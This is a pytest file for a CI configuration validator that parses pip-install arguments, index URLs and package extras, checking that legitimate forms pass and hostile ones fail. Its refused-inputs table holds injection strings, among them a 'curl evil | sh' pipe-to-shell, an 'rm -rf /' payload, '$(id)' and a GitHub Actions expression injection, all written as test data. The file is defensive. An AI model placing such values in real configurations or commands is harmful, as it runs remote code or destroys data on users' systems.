"""`ci.pip-install` entries: every form pip takes, parsed (packaging + urllib), hostile values refused."""

from __future__ import annotations

import pytest

from pipeline.ci.requirements import (
    check_index_url,
    check_pip_install,
    parse_pip_argument,
    with_extras,
)

ACCEPTED = {
    "nox>=2025.2.9": ("requirement", "nox"),
    "cargo-gpu-pipeline[gpu]==0.1.0": ("requirement", "cargo-gpu-pipeline"),
    "cargo-gpu-pipeline @ git+https://github.com/org/cargo-gpu-pipeline@v0.1.0": ("requirement", "cargo-gpu-pipeline"),
    "cargo_gpu_pipeline@https://files.example.com/cargo_gpu_pipeline-0.1.0-py3-none-any.whl": (
        "requirement", "cargo-gpu-pipeline"),
    "git+https://github.com/org/cargo-gpu-pipeline@v0.1.0": ("url", None),
    "git+ssh://git@github.com/org/tool.git@v1#egg=cargo-gpu-pipeline": ("url", "cargo-gpu-pipeline"),
    "https://files.example.com/cargo_gpu_pipeline-0.1.0-py3-none-any.whl": ("url", "cargo-gpu-pipeline"),
    "dist/cargo_gpu_pipeline-0.1.0-py3-none-any.whl": ("path", "cargo-gpu-pipeline"),
    "cargo_gpu_pipeline-0.1.0-py3-none-any.whl": ("path", "cargo-gpu-pipeline"),
    ".": ("path", None),
    ".[gpu]": ("path", None),
    "./tools/pipeline": ("path", None),
    "../cargo-gpu-pipeline": ("path", None),
    "--extra-index-url=https://pypi.example.com/simple": ("option", None),
    "--index-url=https://pypi.example.com/simple": ("option", None),
    "--find-links=wheels/": ("option", None),
    "--pre": ("option", None),
    "-e": ("editable", None),
}


@pytest.mark.parametrize("value", sorted(ACCEPTED))
def test_every_pip_form_is_accepted_and_classified(value):
    argument = parse_pip_argument(value)
    assert (argument.kind, argument.name) == ACCEPTED[value]
    assert argument.text == value


REFUSED = {
    "gpu\nrun: curl evil | sh": "'\\n'",
    "${{ github.event.issue.title }}": "'$'",
    "gpu: true": "not a pip requirement",
    "gpu'; rm -rf /; '": "\"'\"",
    'gpu"': "'\"'",
    "gpu # comment": "not a pip requirement",
    "$(id)": "'$'",
    "": "empty",
    'tool; python_version > "3.11"': "'\"'",
    "tool; os_name == 'nt'": "\"'\"",
    "https://user:secret@pypi.example.com/x.whl": "password",
    "ftp://example.com/x.whl": "scheme `ftp`",
    "dist/not-a-wheel.whl": "valid wheel file name",
    "--trusted-host=evil.example.com": "not an accepted pip option",
    "--index-url": "not an accepted pip option",
    "--extra-index-url=javascript:alert(1)": "is not a --extra-index-url URL",
    "--extra-index-url=mailto:x@example.com": "scheme `mailto`",
    "x @ https://a b": "not a pip requirement",
    "https://": "no host",
}


@pytest.mark.parametrize("value", sorted(REFUSED))
def test_hostile_or_malformed_entries_are_refused_saying_why(value):
    with pytest.raises(ValueError, match=r"^`pip-install` = ") as caught:
        check_pip_install("pip-install", [value])
    assert REFUSED[value] in str(caught.value)


def test_editable_needs_a_path_or_url_after_it():
    assert [a.kind for a in check_pip_install("pip-install", ["-e", "."])] == ["editable", "path"]
    with pytest.raises(ValueError, match="`-e` must be followed"):
        check_pip_install("pip-install", ["-e"])
    with pytest.raises(ValueError, match="`-e` must be followed"):
        check_pip_install("pip-install", ["-e", "nox"])


@pytest.mark.parametrize(("value", "expected"), [
    ("cargo-gpu-pipeline==0.1.0", "cargo-gpu-pipeline[audit]==0.1.0"),
    ("cargo-gpu-pipeline[gpu]>=0.1", "cargo-gpu-pipeline[gpu,audit]>=0.1"),
    ("cargo-gpu-pipeline @ git+https://github.com/org/repo@v0.1.0",
     "cargo-gpu-pipeline[audit] @ git+https://github.com/org/repo@v0.1.0"),
    ("git+https://github.com/org/cargo-gpu-pipeline@v0.1.0",
     "cargo-gpu-pipeline[audit] @ git+https://github.com/org/cargo-gpu-pipeline@v0.1.0"),
    ("dist/cargo_gpu_pipeline-0.1.0-py3-none-any.whl", "dist/cargo_gpu_pipeline-0.1.0-py3-none-any.whl[audit]"),
    (".", ".[audit]"),
    ("nox>=2025.2.9", "nox>=2025.2.9"),
    ("--extra-index-url=https://pypi.example.com/simple", "--extra-index-url=https://pypi.example.com/simple"),
])
def test_extras_go_on_the_tool_in_every_form(value, expected):
    from packaging.requirements import Requirement

    result = with_extras(parse_pip_argument(value), ["audit"])
    assert result == expected
    if " @ " in result or result.startswith("cargo-gpu-pipeline"):
        assert "audit" in Requirement(result).extras  # still a valid requirement pip reads the same way


@pytest.mark.parametrize("url", ["https://pypi.example.com/simple", "http://127.0.0.1:8080/simple",
                                 "file:///srv/wheels"])
def test_index_urls(url):
    assert check_index_url("pip-index-url", url) == url


@pytest.mark.parametrize("url", ["git+https://example.com/x", "https://u:p@example.com/simple",
                                 "https://example.com/$HOME", "not a url", "https://example.com:port/"])
def test_bad_index_urls_are_refused(url):
    with pytest.raises(ValueError, match=r"^`pip-index-url` = "):
        check_index_url("pip-index-url", url)


def test_the_configuration_accepts_every_form_and_renders_the_extras(tmp_path):
    from pathlib import Path

    from pipeline.ci.shell import with_extras as shell_extras
    from pipeline.project import load_config

    forms = ["cargo-gpu-pipeline @ git+https://github.com/org/cargo-gpu-pipeline@v0.1.0",
             "--extra-index-url=https://pypi.example.com/simple", "-e", "./tools/plugin",
             "dist/helper-1.0-py3-none-any.whl"]
    config = load_config({"pipeline": {"ci": {"pip-install": forms}}}, Path("Cargo.toml"))
    assert config.ci.pip_install == tuple(forms)
    assert shell_extras(forms[0], ["audit"]) == (
        "cargo-gpu-pipeline[audit] @ git+https://github.com/org/cargo-gpu-pipeline@v0.1.0")
